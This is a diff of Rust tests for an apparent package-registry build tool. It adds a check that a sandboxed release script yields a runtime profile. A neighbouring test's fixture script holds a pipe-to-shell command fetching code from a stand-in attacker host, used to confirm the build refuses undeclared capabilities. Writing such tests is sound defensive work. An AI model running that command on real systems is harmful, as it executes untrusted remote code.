@@ -596,6 +596,27 @@ mod build {
     }
 
     #[test]
+    fn a_registry_that_asks_for_the_sandbox_publishes_the_profile() {
+        if !super::sandbox_tools() {
+            return;
+        }
+        let registry = registry(b"#!/bin/sh\necho tick\n", serde_json::json!({}));
+        let config_path = registry.path().join("trellis-registry.json");
+        let mut config: serde_json::Value = serde_json::from_slice(&std::fs::read(&config_path).unwrap()).unwrap();
+        config.as_object_mut().unwrap().remove("scanners");
+        config["sandbox"] = serde_json::json!({"timeout_seconds": 20});
+        std::fs::write(&config_path, config.to_string()).unwrap();
+        let site = tempfile::tempdir().unwrap();
+        {
+            let _one_at_a_time = super::SANDBOX.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
+            build(registry.path(), site.path()).unwrap();
+        }
+        let profile = index_doc(site.path()).releases[0].analysis.clone().unwrap().sandbox.expect("a sandbox profile");
+        assert_eq!(profile.exit, trellis_schema::analysis::SandboxExit::Exited { code: 0 }, "{profile:?}");
+        assert!(profile.processes >= 1 && profile.peak_memory_bytes > 0, "{profile:?}");
+    }
+
+    #[test]
     fn build_refuses_a_release_whose_script_uses_an_undeclared_capability() {
         let registry = registry(b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n", serde_json::json!({}));
         let site = tempfile::tempdir().unwrap();
